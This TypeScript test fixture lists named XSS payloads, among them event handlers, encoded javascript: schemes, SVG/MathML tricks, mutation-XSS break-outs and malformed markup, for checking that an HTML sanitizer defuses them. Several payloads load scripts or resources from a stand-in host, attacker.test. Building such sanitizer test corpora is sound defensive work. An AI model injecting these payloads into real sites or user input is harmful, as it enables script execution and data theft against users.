/**
 * XSS payloads written for #16, one or more per classic family, each named: what `Html.sanitize`
 * must defuse. The unit tests check that sanitising them is a fixpoint and that nothing dangerous
 * survives; the browser test renders each sanitised payload in headless Chromium and checks that
 * no script ran and no request left the page. Payloads call `xss()` or request `http://attacker.test`,
 * so that a survivor shows in the browser.
 */

export interface Payload {
  readonly family: string
  readonly name: string
  readonly html: string
}

const p = (family: string, name: string, html: string): Payload => ({ family, name, html })

export const xssCorpus: ReadonlyArray<Payload> = [
  // script tags
  p("script", "plain script", `<script>xss()</script>`),
  p("script", "script with src", `<script src="http://attacker.test/x.js"></script>`),
  p("script", "upper-case script", `<SCRIPT>xss()</SCRIPT>`),
  p("script", "script split by a nested script", `<scr<script>ipt>xss()</scr</script>ipt>`),
  p("script", "unclosed script", `<p>hello<script>xss()`),
  p("script", "script in attribute-less slash form", `<script/x>xss()</script>`),
  // event handlers
  p("handler", "img onerror", `<img src=x onerror="xss()">`),
  p("handler", "body onload", `<body onload="xss()">hi</body>`),
  p("handler", "svg onload", `<svg onload="xss()"></svg>`),
  p("handler", "details ontoggle", `<details open ontoggle="xss()"><summary>x</summary></details>`),
  p("handler", "a onmouseover without quotes", `<a onmouseover=xss() href="https://example.com">hover</a>`),
  p("handler", "handler after a slash", `<img/src="cid:a"/onerror=xss()>`),
  p("handler", "video source onerror", `<video><source onerror="xss()"></video>`),
  p("handler", "input autofocus onfocus", `<input autofocus onfocus="xss()">`),
  // javascript: URLs
  p("javascript-url", "javascript href", `<a href="javascript:xss()">click</a>`),
  p("javascript-url", "mixed-case scheme", `<a href="JaVaScRiPt:xss()">click</a>`),
  p(
    "javascript-url",
    "entity-encoded scheme",
    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;xss()">click</a>`
  ),
  p(
    "javascript-url",
    "hex entities without semicolons",
    `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;xss()">click</a>`
  ),
  p("javascript-url", "tab inside the scheme", `<a href="java\tscript:xss()">click</a>`),
  p("javascript-url", "encoded newline inside the scheme", `<a href="java&#x0A;script:xss()">click</a>`),
  p("javascript-url", "leading spaces and control characters", `<a href=" \u0001 javascript:xss()">click</a>`),
  p("javascript-url", "vbscript", `<a href="vbscript:msgbox(1)">click</a>`),
  p("javascript-url", "javascript image source", `<img src="javascript:xss()">`),
  p("javascript-url", "formaction on a button", `<button formaction="javascript:xss()">go</button>`),
  // SVG and MathML
  p("svg", "svg script", `<svg><script>xss()</script></svg>`),
  p(
    "svg",
    "svg animate to javascript",
    `<svg><a><animate attributeName="href" to="javascript:xss()"/><text y="20">x</text></a></svg>`
  ),
  p("svg", "svg foreignObject", `<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>`),
  p(
    "svg",
    "svg use with data",
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='xss()'/></svg>#x"/></svg>`
  ),
  p("mathml", "mathml href", `<math><mtext><a xlink:href="javascript:xss()">x</a></mtext></math>`),
  p(
    "mathml",
    "mathml mglyph style mutation",
    `<math><mtext><table><mglyph><style><img src=x onerror=xss()></style></mglyph></table></mtext></math>`
  ),
  // style and expression
  p("style", "style element with import", `<style>@import url("http://attacker.test/x.css");</style><p>x</p>`),
  p("style", "style attribute with background url", `<p style="background:url(http://attacker.test/p.png)">x</p>`),
  p("style", "IE expression", `<div style="width: expression(xss())">x</div>`),
  p("style", "link stylesheet", `<link rel="stylesheet" href="http://attacker.test/x.css">`),
  // meta, base, iframe, object, form
  p("meta", "meta refresh to javascript", `<meta http-equiv="refresh" content="0;url=javascript:xss()">`),
  p("meta", "meta refresh to a host", `<meta http-equiv="refresh" content="0;url=http://attacker.test/">`),
  p("base", "base href", `<base href="http://attacker.test/"><a href="x">x</a><img src="y">`),
  p("iframe", "iframe srcdoc", `<iframe srcdoc="<script>parent.xss()</script>"></iframe>`),
  p("iframe", "iframe src", `<iframe src="http://attacker.test/"></iframe>`),
  p("object", "object data", `<object data="http://attacker.test/x.swf"></object>`),
  p("object", "embed src", `<embed src="javascript:xss()">`),
  p("form", "form action", `<form action="http://attacker.test/"><input name="q" value="x"><button>go</button></form>`),
  p("form", "form with javascript action", `<form action="javascript:xss()"><input type="submit"></form>`),
  // data: URLs
  p("data-url", "data html link", `<a href="data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==">x</a>`),
  p("data-url", "data image", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9eHNzKCk+">`),
  // remote resources
  p("remote", "tracking pixel", `<img src="http://attacker.test/pixel.gif" width="1" height="1">`),
  p("remote", "protocol-relative image", `<img src="//attacker.test/pixel.gif">`),
  p("remote", "relative image", `<img src="/pixel.gif">`),
  p("remote", "srcset", `<img src="cid:a" srcset="http://attacker.test/a.png 2x">`),
  p("remote", "table background", `<table background="http://attacker.test/bg.png"><tr><td>x</td></tr></table>`),
  p(
    "remote",
    "audio and video",
    `<audio src="http://attacker.test/a.mp3" autoplay></audio><video poster="http://attacker.test/p.png"></video>`
  ),
  // mutation XSS and nesting
  p("mutation", "noscript title break-out", `<noscript><p title="</noscript><img src=x onerror=xss()>">`),
  p("mutation", "textarea break-out", `<textarea><p title="</textarea><img src=x onerror=xss()>"></textarea>`),
  p("mutation", "title break-out", `<title><img src=x onerror=xss()></title>`),
  p("mutation", "xmp break-out", `<xmp><p title="</xmp><img src=x onerror=xss()>"></xmp>`),
  p("mutation", "template content", `<template><img src=x onerror=xss()></template>`),
  p("mutation", "select style break-out", `<select><style></select><img src=x onerror=xss()></style></select>`),
  p(
    "mutation",
    "form in table foster parenting",
    `<table><form><tr><td><img src=x onerror=xss()></td></tr></form></table>`
  ),
  p("mutation", "nested anchors", `<a href="https://example.com"><a href="javascript:xss()">x</a></a>`),
  // broken markup
  p("broken", "unquoted attribute with a closing tag inside", `<img src=cid:a alt=x</img><img src=x onerror=xss()>`),
  p("broken", "attribute without a space", `<img src="cid:a"onerror="xss()">`),
  p("broken", "double-open tag", `<<script>xss()//<</script>`),
  p("broken", "null byte in the tag name", `<scr\u0000ipt>xss()</scr\u0000ipt>`),
  p("broken", "unterminated attribute", `<a href="https://example.com onclick=xss() x="`),
  p("broken", "backtick attribute", "<img src=`x` onerror=`xss()`>"),
  // comments and CDATA
  p("comment", "conditional comment", `<!--[if gte IE 4]><script>xss()</script><![endif]-->`),
  p("comment", "comment closed early", `<!-- --!><img src=x onerror=xss()> -->`),
  p("comment", "bogus comment", `<? <img src=x onerror=xss()> ?>`),
  p("cdata", "CDATA with markup", `<![CDATA[<img src=x onerror=xss()>]]>`),
  p("cdata", "CDATA in svg", `<svg><![CDATA[><img src=x onerror=xss()>]]></svg>`)
]
